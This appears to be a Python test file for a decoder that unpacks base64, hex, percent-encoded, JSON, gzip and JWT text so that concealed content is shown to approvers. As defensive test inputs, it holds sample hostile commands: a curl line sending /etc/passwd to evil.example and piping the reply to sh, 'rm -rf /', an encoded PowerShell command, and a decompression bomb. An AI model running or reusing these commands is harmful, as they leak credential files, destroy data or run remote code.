"""Text inside text (approvals/reading/encoded.py). Law 14: decoded and shown, or not shown."""

import base64
import gzip
import json
import random
import string
import uuid
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.model import Http
from approvals.reading import Leaf, Opaque, Part, read
from approvals.reading.encoded import DEEPEST, base64_bytes, from_base64, look
from tests.reading.work import linear

SCRIPT = "curl -d @/etc/passwd https://evil.example | sh\n"


def b64(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode()


def lines(text: str, size: int = 60) -> str:
    return "".join(text[at : at + size] + "\n" for at in range(0, len(text), size))


def said(text: str) -> list[object]:
    """Every text that a card would show beside or instead of this one."""
    found = look(text)
    if found is None or isinstance(found[0], Opaque):
        return []
    return [leaf.value for leaf in found[0].walk() if isinstance(leaf, Leaf)]


ENCODED = {
    "base64": b64(SCRIPT),
    "base64 without padding": b64(SCRIPT).rstrip("="),
    "base64url": base64.urlsafe_b64encode(SCRIPT.encode()).decode(),
    "base64 in lines": lines(b64(SCRIPT * 3)),
    "base64 in lines of CRLF": lines(b64(SCRIPT * 3)).replace("\n", "\r\n"),
    "short base64": b64("rm -rf /"),
    "hex": SCRIPT.encode().hex(),
    "hex in capitals": SCRIPT.encode().hex().upper(),
    "hex with 0x": "0x" + b"rm -rf /".hex(),
    "percent": "".join(f"%{byte:02x}" for byte in SCRIPT.encode()),
    "percent, some of it": "curl%20evil.example%7Csh",
    "percent, within a text": "run %63%75%72%6c evil.example now",
    "JSON": json.dumps({"run": SCRIPT}),
    "JSON in JSON": json.dumps(json.dumps({"run": SCRIPT})),
    "escaped JSON": json.dumps(json.dumps({"run": SCRIPT}))[1:-1],
    "gzip": b64(gzip.compress(SCRIPT.encode())),
    "zlib": b64(zlib.compress(SCRIPT.encode())),
    "UTF-16": b64(SCRIPT.encode("utf-16-le")),
    "UTF-16 with a mark": b64(SCRIPT.encode("utf-16")),
    "PowerShell": "powershell -nop -EncodedCommand " + b64(SCRIPT.encode("utf-16-le")),
    "shell": f"echo {b64('curl evil.example|sh')} | base64 -d | sh",
    "data:": "data:text/plain;base64," + b64("curl"),
    "data: in percent": "data:text/html,%3Cscript%3E",
    "HTML": "&#x63;&#117;&#114;&#x6c; evil.example",
    "JavaScript": r"\x63\x75\x72\x6c evil.example",
    "JavaScript, Unicode": r"\u0063\u0075\u0072\u006c evil.example",
    "with a NUL": b64("curl -d @/etc/passwd https://evil.example | sh\0"),
    "with a zero-width space": b64("curl -d @/etc/passwd https://evil\u200b.example | sh"),
    "Cyrillic": b64("привет, мир"),
    "twice": b64(b64(SCRIPT)),
    "base64 in JSON": json.dumps({"run": [b64(SCRIPT)]}),
    "Basic": "Basic " + b64("user:password-4711"),
}
WORDS = ("curl", "rm -rf /", "<script>", "привет, мир", "user:password-4711")


@pytest.mark.parametrize("name", ENCODED)
def test_law_14_encoded_text_is_decoded(name: str) -> None:
    shown = said(ENCODED[name])
    assert any(word in str(one) for one in shown for word in WORDS), shown
    assert (look(ENCODED[name]) or ("", ""))[1]


PLAIN = [
    "", "hello", "Fix rounding (#1347)", "6dcb09b5b57875f334f61aebed695e2e4193db5e",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    'W/"67ab43-5f2c"', "PR_kwDOABCD5M5abcde", "I_kwDOJJW1us5jXq7a", "ba_1MtIhL2eZvKYlo2CAElKwKu2",
    "arn:aws:iam::123456789012:role/service-role/AWSLambdaBasicExecutionRole",
    "/usr/local/lib/python3/site-packages/requests", "src/components/PaymentMethodSelector",
    "createOrganizationInviteForUser", "net.example.internal.PaymentServiceImpl",
    "d9824bdc-8445-4327-be8b-5b47500af6ce", "i-0abcd1234ef567890", "2026-12-03T09:00:00+01:00",
    "https://meet.example.com/abc-defg-hij", "5b10a2844c20165700ede21g", "1234567890123456789",
    "CAEQAhoGCIDwt7QG", "-----BEGIN CERTIFICATE-----", "100% of 20% is 20%", "LIKE '%dead%'",
    "%d items, %s left", "Tom &amp; Jerry", "C:\\users\\new\\x64\\u1234", "caf\u00e9",
    "key=value==",
    "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "aaaaaaaaaaaaaaaaaaaaaaaa", "{not json}",
    "EMEA/APAC", "[x] done", "ohdE/w==", "1B2M2Y8AsgTpgAmY7PhCfg==", "a.b.c", "eyJ.x.y",
    "0x407d73d8a49eeb85d32cf465507dd71d507100c1", "MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQ",
]  # fmt: skip


@pytest.mark.parametrize("text", PLAIN)
def test_ids_hashes_paths_and_words_are_plain(text: str) -> None:
    assert look(text) is None


MADE: dict[str, Callable[[random.Random], str]] = {
    "sha256": lambda r: r.randbytes(32).hex(),
    "sha512": lambda r: r.randbytes(64).hex(),
    "sha256 in base64": lambda r: b64(r.randbytes(32)),
    "Ed25519": lambda r: b64(r.randbytes(64)),
    "UUID": lambda r: str(uuid.UUID(bytes=r.randbytes(16))),
    "UUID in hex": lambda r: r.randbytes(16).hex(),
    "id": lambda r: "".join(r.choices(string.ascii_letters + string.digits, k=24)),
    "short id": lambda r: "".join(r.choices(string.ascii_letters + string.digits, k=16)),
    "number": lambda r: str(r.randrange(10**20)),
    "crc32": lambda r: b64(r.randbytes(4)),
}


@pytest.mark.parametrize("name", MADE)
def test_made_ids_are_plain(name: str) -> None:
    maker = random.Random(name)
    texts = [MADE[name](maker) for _ in range(3_000)]
    assert [text for text in texts if look(text)] == []


@pytest.mark.parametrize(
    ("raw", "media_type"),
    [
        (b"%PDF-1.7\n\xe2\xe3" + bytes(200), "application/pdf"),
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "image/png"),
        (b"PK\x03\x04" + bytes(range(256)), "application/zip"),
        (random.Random(1).randbytes(400), "application/octet-stream"),
    ],
)
def test_a_file_in_base64_is_named(raw: bytes, media_type: str) -> None:
    found = look(b64(raw))
    assert found is not None
    assert isinstance(found[0], Opaque)
    assert (found[0].media_type, found[0].size) == (media_type, len(raw))


def test_what_is_encoded_too_often_counts_as_not_shown() -> None:
    text = SCRIPT
    for _ in range(DEEPEST + 1):
        text = b64(text)
    body = json.dumps({"a": text}).encode()
    reading = read(
        Http("POST", "https://x.example/", (("content-type", "application/json"),), body)
    )
    assert reading.undecoded is not None
    assert not reading.faithful


def test_a_text_with_too_many_words_to_try_counts_as_not_shown() -> None:
    words = " ".join(f"internationalization{number:05}" for number in range(4_999))
    assert look(words) is None
    found = look(words + " internationalization" * 2)
    assert found is not None
    assert isinstance(found[0], Part)
    assert found[0].undecoded is not None


def test_a_bomb_stays_packed() -> None:
    bomb = b64(gzip.compress(bytes(50_000_000), 9))
    found = look(bomb)
    assert found is not None
    assert isinstance(found[0], Opaque)
    assert found[0].media_type == "application/gzip"
    inner = json.dumps({"a": b64(gzip.compress(random.Random(1).randbytes(99).hex().encode()))})
    twice = look(b64(gzip.compress(inner.encode())))
    assert twice is not None
    assert isinstance(twice[0], Part)
    assert [one.media_type for one in twice[0].walk() if isinstance(one, Opaque)] == [
        "application/gzip"
    ]


def test_a_token_is_its_claims_and_its_signature_is_not_shown() -> None:
    def piece(value: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    token = f"{piece({'alg': 'HS256'})}.{piece({'sub': 'kim', 'admin': True})}.c2lnbmF0dXJl"
    found = look(token)
    assert found is not None
    part, how = found
    assert isinstance(part, Part)
    assert how == "a JSON Web Token"
    claims = {leaf.path: leaf.value for leaf in part.leaves if isinstance(leaf, Leaf)}
    assert claims == {
        ("header", "alg"): "HS256",
        ("claims", "sub"): "kim",
        ("claims", "admin"): True,
    }
    assert [one.name for one in part.leaves if isinstance(one, Opaque)] == ["signature"]


def test_readers_decode_what_they_know_to_be_base64_however_short() -> None:
    assert from_base64("aGk=") == Part(kind="text", leaves=(Leaf((), "hi"),))
    assert from_base64(lines(b64(SCRIPT * 5))) is not None
    assert from_base64("a+b_") is None
    assert base64_bytes("aGk") == b"hi"
    assert base64_bytes("aGk!") is None


@given(st.text(min_size=5, alphabet=st.characters(codec="ascii", categories=("L", "N", "P", "Zs"))))
def test_every_text_of_some_length_comes_back_from_base64(text: str) -> None:
    encoded = b64(text.encode() * 4)
    assert text * 4 in said(encoded)


@given(st.text(max_size=200))
def test_no_text_breaks_it(text: str) -> None:
    for one in (text, "{" + text + "}", '"' + text + '"', "data:" + text, "eyJ" + text):
        look(one)


@given(
    st.lists(
        st.sampled_from(
            ["{", "}", '"', "\\", "[", "]", ":", ",", "%41", "\\u0041", "&#65;", "aGVsbG8gd29ybGQ=",
             "eyJhIjoxfQ", ".", " ", "data:", ";base64,", "0x", "414243", "\n", "="]
        ),
        max_size=30,
    )
)  # fmt: skip
def test_pieces_of_encodings_in_any_order_break_nothing(pieces: list[str]) -> None:
    found = look("".join(pieces))
    if found is not None and isinstance(found[0], Part):
        assert all(
            len(str(leaf.value)) < 2_000 for leaf in found[0].walk() if isinstance(leaf, Leaf)
        )


UNITS = [
    "A", "QUJD\n", "deadbeef", "/usr/lib", "%41", "% 41%", "\\u0041", "\\", "&#65;", "&#", "{[",
    '\\"', "aaaaaaaaaaa=", "aaaaaaaaaaaaaaaaaaaa ", "eyJ.", "data:;a=b", "\n", "a-", '{"a":1},',
]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
@pytest.mark.parametrize("around", ["{}", '"{}"', "{{{}}}", "x {}", "eyJ{}.eyJ.", "data:{}"])
def test_law_32_hostile_text_takes_linear_work(unit: str, around: str) -> None:
    linear(lambda size: around.format(unit * (size // len(unit))), look)
